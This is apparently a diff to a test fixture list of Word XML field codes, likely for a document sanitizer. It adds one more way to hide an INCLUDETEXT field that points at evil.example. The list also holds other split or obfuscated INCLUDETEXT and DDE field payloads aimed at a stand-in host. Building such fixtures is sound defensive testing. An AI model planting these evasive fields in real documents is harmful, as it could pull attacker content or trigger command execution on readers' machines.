@@ -51,6 +51,8 @@ FIELDS = [
     runs("{") + '<w:fldSimple w:instr="REF bm"><w:r><w:t>PAGE</w:t></w:r></w:fldSimple>' + runs(" INCLUDETEXT evil.example", "|", "=看得见", "}"),
     runs("{") + '<w:r><w:sym w:font="a" w:char="0050"/></w:r>' + runs("PAGE INCLUDETEXT evil.example", "|", "=看得见", "}"),
     runs("{", "PAGE ") * 30 + runs("INCLUDETEXT evil.example") + runs("|", "=看得见", "}") * 30,
+    runs("{", "PAGE ") + TWO_WAYS + runs("|") + "</mc:Choice><mc:Fallback>" + runs("INCLUDETEXT evil.example", "|")
+    + "</mc:Fallback></mc:AlternateContent>" + runs("=看得见", "}"),
     '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE evil.example</w:instrText><w:fldChar w:fldCharType="separate"/><w:t>看得见</w:t><w:fldChar w:fldCharType="end"/></w:r>',
 ]  # fmt: skip
 
